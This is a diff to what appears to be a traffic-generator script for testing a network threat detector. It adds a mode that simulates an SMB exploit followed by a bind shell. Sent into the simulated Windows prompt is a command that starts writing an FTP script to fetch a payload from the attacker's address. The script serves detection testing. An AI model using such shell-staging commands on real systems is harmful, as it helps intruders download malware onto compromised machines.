@@ -15,6 +15,9 @@ loopback  127.0.0.1 talks to itself: 18 connections to port 6379, one a second, 
 remote    the same two shapes from 10.0.0.5 to 203.0.113.7: cnc_beacon
 irc-chat  10.0.0.5 chats on IRC at 198.51.100.6:6667 (NICK, USER, JOIN, messages, one
           addressed "@nick ..."): chat, no irc_cnc
+smbshell  10.0.0.66 sends 2 KB to 10.0.0.9:445, then opens 10.0.0.9:1957 and gets a Windows
+          command prompt (an SMB exploit and its bind shell): the sender is the attacker, the
+          receiver the target
 irc-bot   the same session where the channel gives ".download http://..." and ".execute":
           irc_cnc
 """
@@ -149,6 +152,16 @@ elif mode == 'loopback':
     shapes('127.0.0.1', '127.0.0.1')
 elif mode == 'remote':
     shapes('10.0.0.5', '203.0.113.7')
+elif mode == 'smbshell':
+    c = Conn('10.0.0.66', '10.0.0.9', 3300, 445, 1.0)
+    c.send(1.1, b'\0\0\x07\xd0' + R.randbytes(2000))
+    c.reply(1.2, b'\0\0\0\x04' + b'\0' * 4)
+    c.close(1.5)
+    c = Conn('10.0.0.66', '10.0.0.9', 3301, 1957, 3.0)
+    c.reply(3.1, b'Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n'
+                 b'C:\\WINDOWS\\system32>')
+    c.send(3.5, b'echo open 10.0.0.66 8884 > o&echo user 1 1 >> o\r\n')
+    c.close(4.0)
 elif mode == 'irc-chat':
     irc([])
 elif mode == 'irc-bot':
